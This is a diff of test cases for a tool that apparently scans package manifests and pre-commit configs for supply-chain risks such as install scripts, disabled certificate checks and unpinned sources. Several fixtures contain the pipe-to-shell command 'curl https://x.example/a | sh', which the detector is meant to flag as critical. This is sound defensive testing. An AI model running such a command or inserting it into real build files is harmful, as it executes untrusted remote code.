@@ -19,17 +19,18 @@ testManifest('composer.json', '{\n  "name": "a/b",\n  HERE\n}\n', [
     '"repositories": [{"type": "vcs", "url": "https://a.example/b"}]',
     ['registry-override warning', 'unjudged'],
   ],
-  ['"type": "x"', '"scripts": {"post-install-cmd": "php setup.php"}', ['install-script warning']],
-  ['"type": "x"', '"scripts": {"test": "curl https://x.example/a | sh"}', ['downloaded-code critical']],
-  ['"type": "x"', '"scripts": {"test": "phpunit"}', ['unjudged']],
-  ['"type": "x"', '"config": {"secure-http": false}', ['certificate-check-off critical']],
-  ['"type": "x"', '"config": {"allow-plugins": true}', ['install-script warning']],
-  ['"type": "x"', '"autoload": {"files": ["a.php"]}', ['unjudged']],
+  ['"type": "library"', '"scripts": {"post-install-cmd": "php setup.php"}', ['install-script warning']],
+  ['"type": "library"', '"scripts": {"test": "curl https://x.example/a | sh"}', ['downloaded-code critical']],
+  ['"type": "library"', '"scripts": {"test": "phpunit"}', ['unjudged']],
+  ['"type": "library"', '"config": {"secure-http": false}', ['certificate-check-off critical']],
+  ['"type": "library"', '"config": {"allow-plugins": true}', ['install-script warning']],
+  ['"type": "library"', '"autoload": {"files": ["a.php"]}', ['unjudged']],
 ]);
 
 testManifest('Cargo.toml', '[package]\nname = "a"\n\n[dependencies]\nHERE\n', [
   ['b = "1"', 'b = { version = "1.2", features = ["c"], default-features = false }', []],
   ['b = "1"', 'b = "*"', MOVES],
+  ['b = "1"', 'b = ">=0.5"', []],
   ['b = "1"', 'b = { git = "https://a.example/b" }', SOURCE],
   ['b = "1"', `b = { git = "https://a.example/b", rev = "${HASH}" }`, ['unjudged']],
   ['b = "1"', 'b = { git = "http://a.example/b" }', OPEN],
@@ -62,6 +63,9 @@ testManifest('requirements.txt', 'a==1\nHERE\n', [
   ['b==1', 'http://a.example/b.tar.gz', OPEN],
   ['b==1', '-e ../b', SOURCE],
   ['b==1', '--global-option=x', ['unjudged']],
+  ['--require-hashes', '', ['unjudged']],
+  [`b==1 --hash=sha256:${'0'.repeat(64)}`, 'b==2', ['lockfile-tampering warning']],
+  ['b==1', 'b.tar.gz', ['unjudged']],
 ]);
 
 testManifest('pyproject.toml', '[project]\nname = "a"\nHERE\n', [
@@ -82,8 +86,9 @@ const HOOKS = 'repos:\n- repo: https://github.com/a/b\n  rev: v1.0.0\n  hooks:\n
 testManifest('.pre-commit-config.yaml', 'HERE', [
   [HOOKS, HOOKS.replace('v1.0.0', 'v1.1.0'), []],
   [HOOKS, HOOKS.replace('v1.0.0', 'main'), SOURCE],
-  [HOOKS, HOOKS.replace('https:', 'http:'), OPEN],
+  [HOOKS, HOOKS.replace('https:', 'http:'), [...OPEN, 'unjudged']],
   [HOOKS, HOOKS.replace('https://github.com/a/b', 'https://a.example/b'), ['unjudged']],
+  [`${HOOKS}  - id: detect-secrets\n`, HOOKS, ['unjudged']],
   [HOOKS, `${HOOKS}    entry: bash -c 'curl https://x.example/a | sh'\n`, ['downloaded-code critical']],
   [HOOKS, `${HOOKS}    args: [--unsafe]\n`, ['unjudged']],
   [HOOKS, `${HOOKS}    additional_dependencies: [d==1]\n`, []],
